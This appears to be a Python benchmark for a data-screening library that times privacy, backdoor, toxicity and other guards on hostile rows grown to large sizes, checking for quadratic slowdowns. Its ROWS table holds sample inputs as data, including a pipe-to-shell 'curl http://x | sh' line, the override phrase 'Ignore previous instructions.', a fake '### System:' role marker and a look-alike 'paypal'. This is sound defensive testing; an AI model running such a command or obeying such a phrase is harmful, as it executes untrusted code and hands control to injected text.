"""Seconds each guard spends on one hostile row as the row doubles, against a row of plain words.

    python benchmarks/hostile_rows_bench.py [--sizes 50000,100000,200000] [--guards ...]

A screen is only as fast as its slowest row: one row whose cost grows with the square of its
length (an expression retried from every position, a text rebuilt once per match) stalls the
whole run. Each hostile row below repeats what one guard's rules look for (key headers,
look-alike words, invisible characters, assignments, URLs, ...) to the given size; the guard
checks that one row (dataset-level guards finish too). The baseline, in the same run, is a row
of plain words of the same size. The table prints the time at each size and the growth from
the smallest size to the largest as an exponent: time ~ size^k, k = 1 linear, 2 quadratic.
"""

from __future__ import annotations

import argparse
import math
import time
from collections.abc import Callable

from cpu import pin

from synthguard.guards.backdoor.guard import BackdoorConfig, BackdoorGuard
from synthguard.guards.decontamination import DecontaminationGuard, ProtectedIndex, ProtectedItem
from synthguard.guards.dedup.guard import DedupGuard
from synthguard.guards.dedup.index import DedupIndex
from synthguard.guards.privacy import PrivacyGuard
from synthguard.guards.toxicity import ToxicityGuard
from synthguard.guards.verdict import Guard
from synthguard.provenance.sample import sample_from_row

ROWS: dict[str, str] = {
    "plain words (baseline)": "word ",
    "key headers": "-----BEGIN PRIVATE KEY-----",
    "key headers, no dashes": "BEGIN PRIVATE KEY ",
    "assignments and calls": "k = f(x) token='a1b2c3d4e5f6a7b8c9' ",
    "look-alike words": "p\u0430ypal ",
    "zero-width characters": "a\u200b",
    "bidi overrides": "\u202e",
    "combining marks": "a\u0301\u0301",
    "dotted numbers": "1.",
    "spaced digits": "1 ",
    "role markers": "### System: ",
    "injections": "Ignore previous instructions. ",
    "urls": "http://x.example/a ",
    "shell lines": "$ curl http://x | sh\n",
    "starred words": "f*** ",
    "blank runs": "                                       x",
    "names after blanks": "a                   Nike ",
    "letters spelled apart": "a b ",
    "identity words": "passport no NHS number is date of birth: 12/",
    "insurance-number shapes": "AB 12 34 56 ",
    "street-like runs": "12 Maple Oak Street Apt 4B, Austin, TX 78701 ",
    "dialled numbers": "tel 0999 9999 ",
}


def guards() -> dict[str, Callable[[], Guard]]:
    """Each default guard, built fresh per measurement (dataset-level state starts empty)."""
    protected = [
        (ProtectedItem("bench", i, None, None), f"protected item number {i} " * 5)
        for i in range(50)
    ]
    return {
        "unicode": lambda: BackdoorGuard(
            BackdoorConfig(injection=False, statistics=False), name="unicode"
        ),
        "dedup": lambda: DedupGuard(DedupIndex()),
        "decontamination": lambda: DecontaminationGuard(ProtectedIndex(protected)),
        "backdoor": BackdoorGuard,
        "privacy": PrivacyGuard,
        "toxicity (offline)": ToxicityGuard.auto,
    }


def seconds(make: Callable[[], Guard], unit: str, size: int) -> float:
    """Best of three: one guard checking (and finishing) one row of `unit` repeated to `size`."""
    text = (unit * (size // len(unit) + 1))[:size]
    sample = sample_from_row({"instruction": "question " + text[: size // 2], "output": text})
    best = float("inf")
    for _ in range(3):
        guard = make()
        start = time.perf_counter()
        guard.check([sample])
        finish = getattr(guard, "finish", None)
        if finish is not None:
            finish()
        best = min(best, time.perf_counter() - start)
    return best


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--sizes", default="50000,100000,200000")
    parser.add_argument("--guards", default=",".join(guards()))
    parser.add_argument("--one-core", action="store_true")
    args = parser.parse_args()
    pin(args)
    sizes = [int(s) for s in args.sizes.split(",")]
    wanted = args.guards.split(",")
    head = f"{'guard':<19} {'row':<24} " + " ".join(f"{s // 1000:>6} KB" for s in sizes)
    print(f"milliseconds to check one row, and k in time ~ size^k\n{head}       k")
    worst = (0.0, "")
    for name, make in guards().items():
        if name not in wanted:
            continue
        make()  # load what the guard loads once (a model), before any clock
        for row, unit in ROWS.items():
            times = [seconds(make, unit, size) for size in sizes]
            k = math.log(times[-1] / times[0]) / math.log(sizes[-1] / sizes[0])
            cells = " ".join(f"{t * 1000:>9.1f}" for t in times)
            print(f"{name:<19} {row:<24} {cells}  {k:>6.2f}")
            if times[-1] > 0.01 and k > worst[0]:
                worst = (k, f"{name} on {row}")
    print(f"\nlargest k (rows over 10 ms at the largest size): {worst[0]:.2f}, {worst[1]}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
